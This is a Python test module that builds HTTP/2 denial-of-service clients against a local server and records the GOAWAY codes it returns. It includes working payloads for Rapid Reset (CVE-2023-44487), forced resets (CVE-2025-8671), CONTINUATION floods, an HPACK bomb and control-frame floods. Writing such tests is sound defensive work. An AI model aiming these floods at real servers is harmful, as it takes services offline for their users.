"""Clients of HTTP/2 that want much done for little; each row is one of docs/http2.md."""

from __future__ import annotations

import collections
import contextlib
import os
import select
import socket
import threading
import time
from typing import TYPE_CHECKING, Callable, NamedTuple

from securing import frames
from securing.frames import frame

if TYPE_CHECKING:
    from types import TracebackType

_CALM = frozenset({"ENHANCE_YOUR_CALM"})
#: Where an answer was quicker, the stream had ended, and what comes then costs the connection.
_OR_WRONG = _CALM | {"STREAM_CLOSED", "PROTOCOL_ERROR", "FRAME_SIZE_ERROR"}
#: How many pieces are written beforehand, so that an attack costs the attacker little.
_PIECES = 4000
_AT_ONCE = 65536
_PATIENCE_SECONDS = 5


class Attack(NamedTuple):
    """What one connection sends: once the opening, then pieces, by odd numbers, as long as it is let.

    ``starts`` says that its requests reach an application unless they are held back.
    """

    name: str
    codes: frozenset[str]
    piece: Callable[[int], bytes]
    opening: bytes = b""
    starts: bool = False
    window: int = frames.FIRST_WINDOW


def _reset(stream: int) -> bytes:
    return frames.request(stream, "/count") + frame(frames.RESET, stream, frames.number(frames.CANCEL))


def _provoking(kind: int, payload: bytes) -> Callable[[int], bytes]:
    return lambda stream: frames.request(stream, "/count") + frame(kind, stream, payload)


def _always(sent: bytes, times: int = 100) -> Callable[[int], bytes]:
    return lambda _: sent * times


_UNFINISHED = frame(frames.HEADERS, 1, b"x")
_UPLOAD = frames.request(1, "/count", length=1 << 20)
#: A field of 4,000 bytes, and one byte for each time that it is meant again.
_BOMB = frame(
    frames.HEADERS, 1, b"\x40\x01k\x7f\xa1\x1e" + b"v" * 4000 + b"\xbe" * 10_000, frames.END_HEADERS
)

ATTACKS = (
    Attack("requests that are reset (CVE-2023-44487)", _CALM, _reset, starts=True),
    Attack(
        "resets by a window of 0 (CVE-2025-8671)",
        _OR_WRONG,
        _provoking(frames.WINDOW_UPDATE, bytes(4)),
        starts=True,
    ),
    Attack(
        "resets by a window that overflows",
        _OR_WRONG,
        _provoking(frames.WINDOW_UPDATE, frames.number(frames.MOST_WINDOW)),
        starts=True,
    ),
    Attack("resets by DATA after the end", _OR_WRONG, _provoking(frames.DATA, b"x"), starts=True),
    Attack("resets by a short PRIORITY", _OR_WRONG, _provoking(frames.PRIORITY, b"x"), starts=True),
    Attack("a head without end", _CALM, lambda _: frame(frames.CONTINUATION, 1, b"x" * 16_000), _UNFINISHED),
    Attack("a head that goes on by nothing", _CALM, _always(frame(frames.CONTINUATION, 1)), _UNFINISHED),
    Attack("HPACK bomb", _CALM, lambda _: b"", _BOMB),
    Attack("PING", _CALM, _always(frame(frames.PING, 0, b"12345678"))),
    Attack("SETTINGS", _CALM, _always(frames.settings({frames.INITIAL_WINDOW_SIZE: 70_000}))),
    Attack("PRIORITY", _CALM, _always(frame(frames.PRIORITY, 3, frames.number(1) + b"\x0f"))),
    Attack(
        "windows of one byte",
        _CALM,
        _always(frame(frames.WINDOW_UPDATE, 1, frames.number(1))),
        frames.request(1, "/large"),
        window=0,
    ),
    Attack("unknown frames", _CALM, _always(frame(0xF0, 0))),
    Attack("DATA without data", _CALM, _always(frame(frames.DATA, 1)), _UPLOAD),
    Attack("DATA that is padding", _CALM, _always(frame(frames.DATA, 1, b"\x01\0", frames.PADDED)), _UPLOAD),
    Attack(
        "a window that is too large",
        frozenset({"FLOW_CONTROL_ERROR"}),
        _always(frame(frames.WINDOW_UPDATE, 0, frames.number(frames.MOST_WINDOW))),
    ),
)


class Attacker:
    """Attacks from a thread of its own, one connection after the other, until told to stop."""

    def __init__(self, port: int, attack: Attack, cpu: int | None = None, *, again: bool = True) -> None:
        """Write what each connection will send; without ``again`` there is one only."""
        opening = frames.preface(attack.window) + attack.opening
        pieces = opening + b"".join(attack.piece(stream) for stream in range(1, 2 * _PIECES, 2))
        self._sent = memoryview(pieces)
        self._port = port
        self._cpu = cpu
        self._again = again
        self._over = threading.Event()
        self._thread = threading.Thread(target=self._run)
        #: How connections ended: by which code, "silence" without one, or "never" if all could be sent.
        self.ends: collections.Counter[str] = collections.Counter()
        self.connections = 0
        self.bytes_sent = 0

    def __enter__(self) -> Attacker:
        """Begin."""
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        """Stop, after the end of the connection that there is."""
        self._over.set()
        self._thread.join()

    def _run(self) -> None:
        if self._cpu is not None:
            os.sched_setaffinity(0, {self._cpu})  # of this thread
        while not self._over.is_set():
            self.connections += 1
            self.ends[self._one()] += 1
            if not self._again:
                return

    def _one(self) -> str:
        try:
            client = socket.create_connection(("127.0.0.1", self._port), _PATIENCE_SECONDS)
        except OSError:
            return "not let in"
        with client:
            client.setblocking(False)  # noqa: FBT003
            return self._sent_to(client)

    def _sent_to(self, client: socket.socket) -> str:
        """Send as fast as it goes, and read what comes; return the code of the last GOAWAY."""
        reader, said, sent = frames.Reader(), "silence", 0
        deadline = time.monotonic() + _PATIENCE_SECONDS
        is_writable = True
        while time.monotonic() < deadline:
            wants = [client] if is_writable and sent < len(self._sent) else []
            readable, writable, _ = select.select([client], wants, [], _PATIENCE_SECONDS)
            if writable:
                try:
                    count = client.send(self._sent[sent : sent + _AT_ONCE])
                    sent += count
                    self.bytes_sent += count
                    deadline = time.monotonic() + _PATIENCE_SECONDS
                except BlockingIOError:
                    pass
                except OSError:
                    is_writable = False  # what it has said may still be there to be read
            if readable:
                received = b""
                with contextlib.suppress(ConnectionError):
                    received = client.recv(_AT_ONCE)
                if not received:
                    return said
                for each in reader.feed(received):
                    if each.kind == frames.GOAWAY:
                        said = each.code
        return "never"
